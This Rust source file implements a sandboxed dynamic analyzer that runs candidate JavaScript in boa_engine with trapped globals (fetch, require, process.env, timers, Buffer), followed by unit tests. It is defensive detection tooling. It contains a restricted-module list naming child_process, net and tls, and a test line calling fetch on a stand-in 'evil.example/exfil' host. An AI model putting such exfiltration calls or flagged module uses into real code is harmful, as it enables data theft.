//! Dynamic Code Analyzer: runs candidate code inside an in-process JS engine with
//! every observable side-effecting global trapped.
//!
//! `boa_engine` gives us a sandboxed interpreter with no native file, network, or
//! process access by default, so everything it reports came from a global we wired
//! up ourselves.

use boa_engine::object::ObjectInitializer;
use boa_engine::property::Attribute;
use boa_engine::{js_string, Context, JsArgs, JsResult, JsValue, NativeFunction, Source};
use std::panic;
use std::sync::mpsc;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use crate::models::DynamicAnalysisResult;

const MIN_TIMEOUT_MS: u64 = 1000;
const MAX_TIMEOUT_MS: u64 = 30000;
const DEFAULT_TIMEOUT_MS: u64 = 5000;
const MAX_BUFFER_BYTES: usize = 1_048_576;
const LONG_TIMER_THRESHOLD_MS: i64 = 1000;

#[derive(Default)]
struct Trapped {
    network_attempts: Vec<String>,
    fs_attempts: Vec<String>,
    suspicious_behavior: Vec<String>,
}

pub struct DynamicAnalyzer;

impl DynamicAnalyzer {
    /// Runs `code` to completion or until `timeout_ms` elapses, whichever comes first.
    /// `timeout_ms` is clamped to [1000, 30000]; `None` uses the 5s default.
    pub fn analyze(code: &str, timeout_ms: Option<u64>) -> DynamicAnalysisResult {
        let timeout = Duration::from_millis(
            timeout_ms.unwrap_or(DEFAULT_TIMEOUT_MS).clamp(MIN_TIMEOUT_MS, MAX_TIMEOUT_MS),
        );
        let owned_code = code.to_string();
        let (tx, rx) = mpsc::channel();

        let handle = std::thread::spawn(move || {
            let result = panic::catch_unwind(|| run_sandboxed(&owned_code));
            let _ = tx.send(result);
        });

        match rx.recv_timeout(timeout) {
            Ok(Ok(result)) => result,
            Ok(Err(_)) => DynamicAnalysisResult {
                safe: true,
                unavailable: true,
                ..Default::default()
            },
            Err(_) => {
                // Engine thread is still running; detach it and report unsafe.
                drop(handle);
                DynamicAnalysisResult {
                    safe: false,
                    suspicious_behavior: vec!["Execution timed out - possible infinite loop".to_string()],
                    unavailable: true,
                    ..Default::default()
                }
            }
        }
    }
}

fn run_sandboxed(code: &str) -> DynamicAnalysisResult {
    let started = Instant::now();
    let trapped = Arc::new(Mutex::new(Trapped::default()));

    let mut context = Context::default();
    if install_sandbox(&mut context, Arc::clone(&trapped)).is_err() {
        return DynamicAnalysisResult {
            safe: true,
            unavailable: true,
            ..Default::default()
        };
    }

    let wrapped = format!("\"use strict\";\nvoid function() {{\n{code}\n}}();");
    let outcome = context.eval(Source::from_bytes(&wrapped));

    let trapped = Arc::try_unwrap(trapped).map(|m| m.into_inner().unwrap()).unwrap_or_default();
    let mut suspicious_behavior = trapped.suspicious_behavior;
    if outcome.is_err() {
        suspicious_behavior.push("script raised an unhandled exception".to_string());
    }

    let safe = trapped.network_attempts.is_empty()
        && trapped.fs_attempts.is_empty()
        && suspicious_behavior.is_empty()
        && outcome.is_ok();

    DynamicAnalysisResult {
        safe,
        suspicious_behavior,
        execution_time_ms: started.elapsed().as_millis() as u64,
        memory_used: 0,
        network_attempts: trapped.network_attempts,
        fs_attempts: trapped.fs_attempts,
        unavailable: false,
    }
}

fn install_sandbox(context: &mut Context, trapped: Arc<Mutex<Trapped>>) -> JsResult<()> {
    install_fetch(context, Arc::clone(&trapped))?;
    install_require(context, Arc::clone(&trapped))?;
    install_process(context, Arc::clone(&trapped))?;
    install_timers(context, Arc::clone(&trapped))?;
    install_buffer(context, trapped)?;
    Ok(())
}

fn install_fetch(context: &mut Context, trapped: Arc<Mutex<Trapped>>) -> JsResult<()> {
    let callback = NativeFunction::from_copy_closure(move |_this, args, ctx| {
        let url = args.get_or_undefined(0).to_string(ctx)?.to_std_string_escaped();
        trapped.lock().unwrap().network_attempts.push(url);
        Ok(JsValue::undefined())
    });
    context.register_global_callable(js_string!("fetch"), 1, callback)?;
    Ok(())
}

fn install_require(context: &mut Context, trapped: Arc<Mutex<Trapped>>) -> JsResult<()> {
    let callback = NativeFunction::from_copy_closure(move |_this, args, ctx| {
        let module = args.get_or_undefined(0).to_string(ctx)?.to_std_string_escaped();
        let bare = module.strip_prefix("node:").unwrap_or(&module);
        let mut guard = trapped.lock().unwrap();
        if matches!(bare, "fs" | "fs/promises") {
            guard.fs_attempts.push(module.clone());
        } else if matches!(bare, "child_process" | "cluster" | "dgram" | "dns" | "net" | "tls") {
            guard
                .suspicious_behavior
                .push(format!("attempted to require restricted module '{module}'"));
        }
        Ok(JsValue::undefined())
    });
    context.register_global_callable(js_string!("require"), 1, callback)?;
    Ok(())
}

fn install_process(context: &mut Context, trapped: Arc<Mutex<Trapped>>) -> JsResult<()> {
    let env_trapped = Arc::clone(&trapped);
    let env_getter = NativeFunction::from_copy_closure(move |_this, _args, _ctx| {
        env_trapped
            .lock()
            .unwrap()
            .suspicious_behavior
            .push("read process.env".to_string());
        Ok(JsValue::undefined())
    });

    let exit_trapped = Arc::clone(&trapped);
    let exit_fn = NativeFunction::from_copy_closure(move |_this, _args, _ctx| {
        exit_trapped
            .lock()
            .unwrap()
            .suspicious_behavior
            .push("called process.exit".to_string());
        Ok(JsValue::undefined())
    });

    let process = ObjectInitializer::new(context)
        .accessor_property(js_string!("env"), Some(env_getter), None, Attribute::all())
        .function(exit_fn, js_string!("exit"), 1)
        .build();

    context.register_global_property(js_string!("process"), process, Attribute::all())?;
    Ok(())
}

fn install_timers(context: &mut Context, trapped: Arc<Mutex<Trapped>>) -> JsResult<()> {
    let set_timeout_trapped = Arc::clone(&trapped);
    let set_timeout = NativeFunction::from_copy_closure(move |_this, args, ctx| {
        let delay = args.get_or_undefined(1).to_number(ctx).unwrap_or(0.0) as i64;
        if delay > LONG_TIMER_THRESHOLD_MS {
            set_timeout_trapped
                .lock()
                .unwrap()
                .suspicious_behavior
                .push(format!("setTimeout scheduled with delay {delay}ms"));
        }
        Ok(JsValue::from(0))
    });
    context.register_global_callable(js_string!("setTimeout"), 2, set_timeout)?;

    let set_interval_trapped = Arc::clone(&trapped);
    let set_interval = NativeFunction::from_copy_closure(move |_this, _args, _ctx| {
        set_interval_trapped
            .lock()
            .unwrap()
            .suspicious_behavior
            .push("setInterval called".to_string());
        Ok(JsValue::from(0))
    });
    context.register_global_callable(js_string!("setInterval"), 2, set_interval)?;
    Ok(())
}

fn install_buffer(context: &mut Context, trapped: Arc<Mutex<Trapped>>) -> JsResult<()> {
    let alloc_trapped = Arc::clone(&trapped);
    let alloc = NativeFunction::from_copy_closure(move |_this, args, ctx| {
        let requested = args.get_or_undefined(0).to_number(ctx).unwrap_or(0.0) as usize;
        if requested > MAX_BUFFER_BYTES {
            alloc_trapped
                .lock()
                .unwrap()
                .suspicious_behavior
                .push(format!("Buffer.alloc requested {requested} bytes, clamped"));
        }
        Ok(JsValue::undefined())
    });

    let from_trapped = Arc::clone(&trapped);
    let from = NativeFunction::from_copy_closure(move |_this, _args, _ctx| {
        from_trapped
            .lock()
            .unwrap()
            .suspicious_behavior
            .push("Buffer.from called".to_string());
        Ok(JsValue::undefined())
    });

    let buffer = ObjectInitializer::new(context)
        .function(alloc, js_string!("alloc"), 1)
        .function(from, js_string!("from"), 1)
        .build();

    context.register_global_property(js_string!("Buffer"), buffer, Attribute::all())?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn benign_arithmetic_is_safe() {
        let result = DynamicAnalyzer::analyze("const x = 1 + 1;", None);
        assert!(result.safe);
        assert!(!result.unavailable);
        assert!(result.network_attempts.is_empty());
    }

    #[test]
    fn fetch_call_is_recorded_as_network_attempt() {
        let result = DynamicAnalyzer::analyze("fetch('https://evil.example/exfil');", None);
        assert!(!result.safe);
        assert_eq!(result.network_attempts.len(), 1);
    }

    #[test]
    fn requiring_fs_is_recorded_as_fs_attempt() {
        let result = DynamicAnalyzer::analyze("require('fs');", None);
        assert!(!result.safe);
        assert_eq!(result.fs_attempts.len(), 1);
    }

    #[test]
    fn requiring_child_process_is_suspicious_behavior() {
        let result = DynamicAnalyzer::analyze("require('child_process');", None);
        assert!(result
            .suspicious_behavior
            .iter()
            .any(|s| s.contains("child_process")));
    }

    #[test]
    fn thrown_exception_is_recorded() {
        let result = DynamicAnalyzer::analyze("throw new Error('boom');", None);
        assert!(result
            .suspicious_behavior
            .iter()
            .any(|s| s.contains("unhandled exception")));
    }

    #[test]
    fn long_timeout_requested_is_clamped() {
        let result = DynamicAnalyzer::analyze("const x = 1;", Some(999_999));
        assert!(!result.unavailable);
    }
}
